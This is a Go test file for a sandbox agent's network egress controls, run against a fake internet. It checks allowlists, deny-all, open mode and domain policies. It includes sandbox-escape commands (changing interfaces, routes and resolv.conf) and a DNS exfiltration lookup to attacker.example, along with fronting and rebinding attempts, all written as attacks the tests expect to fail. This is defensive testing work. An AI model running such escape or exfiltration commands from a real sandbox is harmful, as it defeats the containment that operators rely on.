package node

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/warrenhq/warren/api"
	"github.com/warrenhq/warren/internal/netpolicy"
	"github.com/warrenhq/warren/internal/netpolicy/egress"
	"github.com/warrenhq/warren/internal/netpolicy/egress/egresstest"
	"github.com/warrenhq/warren/internal/testutil/fakenet"
)

// serveHTTP answers every request on ln with its host's name.
func serveHTTP(t *testing.T, ln net.Listener, name string) {
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "hello from %s\n", name)
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
}

// get is a shell command fetching http://host/ (busybox's wget crashes
// on this host; its nc does not).
func get(host string, timeout int) string {
	return fmt.Sprintf(`printf 'GET / HTTP/1.0\r\nHost: %s\r\n\r\n' | nc -w %d %s 80`, host, timeout, host)
}

func sh(t *testing.T, a *Agent, id, cmd string) (string, int) {
	t.Helper()
	var out strings.Builder
	res, err := a.Exec(context.Background(), id, api.ExecRequest{Cmd: cmd, Timeout: api.Duration(20 * time.Second)}, &out, &out)
	if err != nil {
		t.Fatalf("exec %q: %v", cmd, err)
	}
	return out.String(), res.ExitCode
}

// TestContainerNetwork is the user story on real containers and
// a fake internet: an allowlist lets out what it names and nothing else,
// the policy changes between stages (and survives an agent restart), and
// the sandbox cannot undo any of it from inside.
func TestContainerNetwork(t *testing.T) {
	n := newContainerNode(t)
	m := egresstest.New(t, netpolicy.Fence{})
	fi := fakenet.New(t)
	serveHTTP(t, fi.Listen("203.0.113.10:80"), "ten")
	serveHTTP(t, fi.Listen("203.0.113.11:80"), "eleven")
	a := n.start(func(c *Config) { c.Network = m })
	ctx := context.Background()

	none, err := a.Create(ctx, api.CreateSandboxRequest{Image: "busybox"})
	if err != nil {
		t.Fatal(err)
	}
	if none.Network != nil {
		t.Errorf("a sandbox with no policy has network %+v", none.Network)
	}
	if out, code := sh(t, a, none.ID, get("203.0.113.10", 3)); code == 0 {
		t.Fatalf("a sandbox with network none reached the internet: %s", out)
	}

	sb, err := a.Create(ctx, api.CreateSandboxRequest{Image: "busybox", Network: &api.NetworkPolicy{Allow: []string{"203.0.113.10:80"}}})
	if err != nil {
		t.Fatal(err)
	}
	if sb.Network == nil || sb.Network.Mode != api.NetworkAllowlist || sb.Network.Address == "" {
		t.Fatalf("created with network %+v, want an allowlist with an address", sb.Network)
	}
	id := sb.ID
	if out, code := sh(t, a, id, get("203.0.113.10", 5)); code != 0 || !strings.Contains(out, "hello from ten") {
		t.Fatalf("allowed host: exit %d, %q", code, out)
	}
	start := time.Now()
	if out, code := sh(t, a, id, get("203.0.113.11", 5)); code == 0 {
		t.Fatalf("a host outside the allowlist answered: %s", out)
	}
	if d := time.Since(start); d > 4*time.Second {
		t.Errorf("a refused connection took %v: the firewall should reset it at once", d)
	}
	if out, _ := sh(t, a, id, "cat /etc/resolv.conf"); !strings.Contains(out, "nameserver "+egress.Gateway.String()) {
		t.Errorf("resolv.conf does not name the node's DNS proxy:\n%s", out)
	}

	t.Run("hostile", func(t *testing.T) {
		for _, cmd := range []string{
			"ip addr add 10.213.0.200/32 dev eth0",
			"ip link set eth0 down",
			"ip route add 203.0.113.0/24 dev eth0",
			"echo nameserver 203.0.113.53 > /etc/resolv.conf",
		} {
			if out, code := sh(t, a, id, cmd); code == 0 {
				t.Errorf("%q succeeded inside the sandbox: %s", cmd, out)
			}
		}
		if out, code := sh(t, a, id, get("203.0.113.10", 5)); code != 0 {
			t.Errorf("the allowed host is gone after the attempts: %d %s", code, out)
		}
	})

	deny := api.NetworkNone
	nw, err := a.UpdateNetwork(ctx, id, api.NetworkUpdate{Mode: &deny})
	if err != nil {
		t.Fatal(err)
	}
	if nw.Mode != api.NetworkNone {
		t.Errorf("after --deny-all: %+v", nw)
	}
	if out, code := sh(t, a, id, get("203.0.113.10", 3)); code == 0 {
		t.Fatalf("reached the internet after deny-all: %s", out)
	}
	if out, _ := sh(t, a, id, "cat /proc/net/dev"); strings.Contains(out, "eth0") {
		t.Errorf("eth0 still there after deny-all:\n%s", out)
	}

	open := api.NetworkOpen
	if _, err := a.UpdateNetwork(ctx, id, api.NetworkUpdate{Mode: &open}); err != nil {
		t.Fatal(err)
	}
	if out, code := sh(t, a, id, get("203.0.113.11", 5)); code != 0 || !strings.Contains(out, "eleven") {
		t.Fatalf("open policy: exit %d, %q", code, out)
	}
	got, err := a.Get(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	if got.Network == nil || got.Network.Mode != api.NetworkOpen {
		t.Fatalf("get: network %+v, want open", got.Network)
	}

	t.Run("agent restart", func(t *testing.T) {
		cfg := m.Config()
		a.Close()
		m.Close()
		m2, err := egress.New(ctx, cfg)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { m2.Teardown() })
		a2 := n.start(func(c *Config) { c.Network = m2 })
		if out, code := sh(t, a2, id, get("203.0.113.11", 5)); code != 0 || !strings.Contains(out, "eleven") {
			t.Fatalf("after the agent restarted: exit %d, %q", code, out)
		}
		if err := a2.Delete(ctx, id); err != nil {
			t.Fatal(err)
		}
		a = a2
	})
	if _, err := a.Create(ctx, api.CreateSandboxRequest{Image: "busybox", Network: &api.NetworkPolicy{Mode: "open", Allow: []string{"x.com"}}}); err == nil {
		t.Error("open with allow entries: created")
	}
}

// A node without a network refuses networked creates with a clear code.
func TestNetworkUnavailable(t *testing.T) {
	n := newContainerNode(t)
	a := n.start(func(c *Config) { c.NetworkProblem = "no nftables here" })
	_, err := a.Create(context.Background(), api.CreateSandboxRequest{Image: "busybox", Network: &api.NetworkPolicy{Mode: api.NetworkOpen}})
	if err == nil || !strings.Contains(err.Error(), "no nftables here") {
		t.Fatalf("networked create on a node without network: %v", err)
	}
	if st := a.Status(); st.Network || !strings.Contains(strings.Join(st.Problems, "\n"), "no nftables here") {
		t.Errorf("status: network %v, problems %v", st.Network, st.Problems)
	}
}

// TestContainerNetworkDomains: an allowlist of names, resolved by the
// node's DNS proxy from a fake internet's resolver, checked by Host on
// port 80; what an agent hunting for a way out tries.
func TestContainerNetworkDomains(t *testing.T) {
	n := newContainerNode(t)
	fi := fakenet.New(t)
	d := fi.DNS("203.0.113.53:53", map[string]string{
		"pypi.org":                "203.0.113.10",
		"files.pythonhosted.org":  "203.0.113.11",
		"cdn-neighbour.example":   "203.0.113.10", // shares pypi.org's address
		"rebind.pythonhosted.org": "10.99.0.5",
	})
	serveHTTP(t, fi.Listen("203.0.113.10:80"), "ten")
	serveHTTP(t, fi.Listen("203.0.113.11:80"), "eleven")
	m := egresstest.New(t, netpolicy.Fence{}, func(c *egress.Config) { c.DNSUpstream = d.Addr })
	a := n.start(func(c *Config) { c.Network = m })
	ctx := context.Background()
	sb, err := a.Create(ctx, api.CreateSandboxRequest{Image: "busybox", Network: &api.NetworkPolicy{Allow: []string{"pypi.org", "*.pythonhosted.org"}}})
	if err != nil {
		t.Fatal(err)
	}
	id := sb.ID
	fetch := func(host, hostHeader string) (string, int) {
		return sh(t, a, id, fmt.Sprintf(`printf 'GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | nc -w 5 %s 80`, hostHeader, host))
	}
	if out, code := fetch("pypi.org", "pypi.org"); code != 0 || !strings.Contains(out, "hello from ten") {
		t.Fatalf("pypi.org: exit %d, %q", code, out)
	}
	if out, code := fetch("files.pythonhosted.org", "files.pythonhosted.org"); code != 0 || !strings.Contains(out, "hello from eleven") {
		t.Fatalf("files.pythonhosted.org: exit %d, %q", code, out)
	}
	t.Run("fronting", func(t *testing.T) {
		// The neighbour's name at pypi.org's (allowed) address.
		if out, _ := fetch("pypi.org", "cdn-neighbour.example"); strings.Contains(out, "hello") || !strings.Contains(out, "403") {
			t.Errorf("a fronted request got through: %q", out)
		}
	})
	t.Run("exfiltration by DNS", func(t *testing.T) {
		out, _ := sh(t, a, id, "nslookup c2VjcmV0.attacker.example; nslookup cdn-neighbour.example")
		if strings.Contains(out, "203.0.113.") {
			t.Errorf("a name outside the policy resolved:\n%s", out)
		}
		if d.Asked("c2vjcmv0.attacker.example") || d.Asked("cdn-neighbour.example") {
			t.Error("a refused name reached the upstream resolver")
		}
	})
	t.Run("rebinding", func(t *testing.T) {
		if out, _ := sh(t, a, id, "nslookup rebind.pythonhosted.org"); strings.Contains(out, "10.99.0.5") {
			t.Errorf("a private answer reached the sandbox:\n%s", out)
		}
	})
	t.Run("other resolvers", func(t *testing.T) {
		// Straight to the upstream, past the proxy.
		if out, _ := sh(t, a, id, "nslookup pypi.org 203.0.113.53"); strings.Contains(out, "203.0.113.10") {
			t.Errorf("another resolver answered:\n%s", out)
		}
	})
	t.Run("by address", func(t *testing.T) {
		// An address pypi.org never resolved to.
		if out, code := sh(t, a, id, get("203.0.113.12", 3)); code == 0 {
			t.Errorf("an address outside the policy answered: %s", out)
		}
	})
	got, err := a.Get(ctx, id)
	if err != nil {
		t.Fatal(err)
	}
	if got.Network.DeniedQueries < 2 || got.Network.DeniedConnections < 2 {
		t.Errorf("counters: %+v, want at least 2 denied queries and 2 connections", got.Network)
	}
	remove := []string{"pypi.org"}
	if _, err := a.UpdateNetwork(ctx, id, api.NetworkUpdate{Remove: remove}); err != nil {
		t.Fatal(err)
	}
	if out, _ := fetch("pypi.org", "pypi.org"); strings.Contains(out, "hello") {
		t.Errorf("pypi.org answered after it was removed: %q", out)
	}
}
